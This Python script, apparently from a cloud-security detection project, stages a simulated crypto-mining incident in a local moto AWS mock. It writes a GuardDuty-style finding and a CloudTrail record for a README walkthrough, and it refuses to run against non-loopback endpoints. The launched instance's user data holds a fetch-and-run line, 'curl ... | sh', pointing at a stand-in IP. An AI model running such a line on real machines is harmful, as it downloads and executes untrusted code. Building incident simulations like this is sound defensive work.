#!/usr/bin/env python3
"""Stage a crypto-mining incident in a local moto server, for the README's incident walk-through.

Needs AWS_ENDPOINT_URL pointing at moto's server (and dummy credentials). In that account it creates an IAM user
whose access key "leaked", a VPC, two security groups, an instance profile and a c5.4xlarge instance with two
network interfaces, two EBS volumes and user data. It writes, under --out:
  findings.jsonl         a CryptoCurrency:EC2/BitcoinTool.B!DNS finding for the instance (from the bundled samples)
  cloudtrail/trail.json  the RunInstances record that launched it, made with the leaked key
Never point this at a real account: it refuses unless AWS_ENDPOINT_URL is a loopback address.
"""

from __future__ import annotations

import argparse
import json
import os
import sys
import time
import urllib.error
import urllib.request
import uuid
from datetime import UTC, datetime, timedelta
from pathlib import Path
from urllib.parse import urlparse

import boto3

REGION = "us-east-1"
SAMPLES = Path(__file__).resolve().parent.parent / "minerwatch" / "data" / "samples" / "findings" / "findings.jsonl"


def wait_for(endpoint: str, seconds: float = 60.0) -> bool:
    """True once the server answers (any HTTP status), so a `moto_server &` started just before is ready."""
    deadline = time.monotonic() + seconds
    while True:
        try:
            urllib.request.urlopen(endpoint, timeout=5).close()
            return True
        except urllib.error.HTTPError:
            return True
        except OSError:
            if time.monotonic() > deadline:
                return False
            time.sleep(0.2)


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--out", type=Path, required=True, help="Folder for findings.jsonl and cloudtrail/.")
    args = parser.parse_args()
    endpoint = os.environ.get("AWS_ENDPOINT_URL", "")
    if urlparse(endpoint).hostname not in ("127.0.0.1", "localhost", "::1"):
        print(
            "incident-in-moto: set AWS_ENDPOINT_URL to a local moto server (e.g. http://127.0.0.1:5055)",
            file=sys.stderr,
        )
        return 2
    if not wait_for(endpoint):
        print(f"incident-in-moto: nothing answers at {endpoint}", file=sys.stderr)
        return 2
    ec2 = boto3.client("ec2", region_name=REGION)
    iam = boto3.client("iam", region_name=REGION)
    account = boto3.client("sts", region_name=REGION).get_caller_identity()["Account"]

    iam.create_user(UserName="ci-deployer")
    key = iam.create_access_key(UserName="ci-deployer")["AccessKey"]["AccessKeyId"]
    vpc = ec2.create_vpc(CidrBlock="10.20.0.0/16")["Vpc"]["VpcId"]
    subnet = ec2.create_subnet(VpcId=vpc, CidrBlock="10.20.1.0/24")["Subnet"]["SubnetId"]
    web = ec2.create_security_group(GroupName="web", Description="web", VpcId=vpc)["GroupId"]
    app_sg = ec2.create_security_group(GroupName="app", Description="app", VpcId=vpc)["GroupId"]
    iam.create_role(
        RoleName="app-role", AssumeRolePolicyDocument=json.dumps({"Version": "2012-10-17", "Statement": []})
    )
    iam.create_instance_profile(InstanceProfileName="app-profile")
    iam.add_role_to_instance_profile(InstanceProfileName="app-profile", RoleName="app-role")
    image = ec2.describe_images()["Images"][0]["ImageId"]
    inst = ec2.run_instances(
        ImageId=image,
        MinCount=1,
        MaxCount=1,
        InstanceType="c5.4xlarge",
        SubnetId=subnet,
        SecurityGroupIds=[web],
        UserData="#!/bin/sh\ncurl -s http://203.0.113.9/x.sh | sh\n",
        IamInstanceProfile={"Name": "app-profile"},
        BlockDeviceMappings=[
            {"DeviceName": "/dev/xvda", "Ebs": {"VolumeSize": 8}},
            {"DeviceName": "/dev/sdb", "Ebs": {"VolumeSize": 20}},
        ],
    )["Instances"][0]
    iid = inst["InstanceId"]
    eni = ec2.create_network_interface(SubnetId=subnet, Groups=[app_sg])["NetworkInterface"]["NetworkInterfaceId"]
    ec2.attach_network_interface(NetworkInterfaceId=eni, InstanceId=iid, DeviceIndex=1)

    launched = datetime.now(UTC).replace(microsecond=0) - timedelta(hours=3)
    found = launched + timedelta(minutes=40)
    sample = next(
        json.loads(line)
        for line in SAMPLES.read_text().splitlines()
        if '"CryptoCurrency:EC2/BitcoinTool.B!DNS"' in line and '"sample":true' not in line
    )
    finding = dict(
        sample,
        id=uuid.uuid4().hex,
        accountId=account,
        region=REGION,
        createdAt=found.isoformat().replace("+00:00", "Z"),
        updatedAt=found.isoformat().replace("+00:00", "Z"),
        title=f"Bitcoin-related domain name queried by EC2 instance {iid}.",
        description=f"EC2 instance {iid} is querying a domain name that is associated with Bitcoin-related activity.",
    )
    finding["arn"] = f"arn:aws:guardduty:{REGION}:{account}:detector/d/finding/{finding['id']}"
    finding["resource"] = dict(
        sample["resource"],
        instanceDetails=dict(sample["resource"]["instanceDetails"], instanceId=iid, instanceType="c5.4xlarge"),
    )
    run_instances = {
        "eventVersion": "1.10",
        "eventTime": launched.isoformat().replace("+00:00", "Z"),
        "eventSource": "ec2.amazonaws.com",
        "eventName": "RunInstances",
        "awsRegion": REGION,
        "sourceIPAddress": "109.23.233.239",
        "userAgent": "aws-cli/1.16.0 Python/2.7 Linux/4.15 botocore/1.12",
        "userIdentity": {
            "type": "IAMUser",
            "principalId": "AIDAEXAMPLE",
            "accountId": account,
            "arn": f"arn:aws:iam::{account}:user/ci-deployer",
            "accessKeyId": key,
            "userName": "ci-deployer",
        },
        "requestParameters": {
            "instanceType": "c5.4xlarge",
            "instancesSet": {"items": [{"imageId": image, "minCount": 1, "maxCount": 1}]},
            "userData": "<sensitiveDataRemoved>",
            "metadataOptions": {"httpTokens": "optional"},
        },
        "responseElements": {
            "instancesSet": {
                "items": [
                    {
                        "instanceId": iid,
                        "instanceType": "c5.4xlarge",
                        "privateIpAddress": inst.get("PrivateIpAddress"),
                        "subnetId": subnet,
                        "vpcId": vpc,
                    }
                ]
            }
        },
        "requestID": str(uuid.uuid4()),
        "eventID": str(uuid.uuid4()),
        "readOnly": False,
        "eventType": "AwsApiCall",
        "managementEvent": True,
        "recipientAccountId": account,
        "eventCategory": "Management",
    }
    (args.out / "cloudtrail").mkdir(parents=True, exist_ok=True)
    (args.out / "findings.jsonl").write_text(json.dumps(finding) + "\n")
    (args.out / "cloudtrail" / "trail.json").write_text(json.dumps({"Records": [run_instances]}, indent=2))
    print(
        f"instance {iid} in {vpc} (launched with key {key} of ci-deployer); wrote {args.out}/findings.jsonl "
        f"and {args.out}/cloudtrail/trail.json"
    )
    return 0


if __name__ == "__main__":
    sys.exit(main())
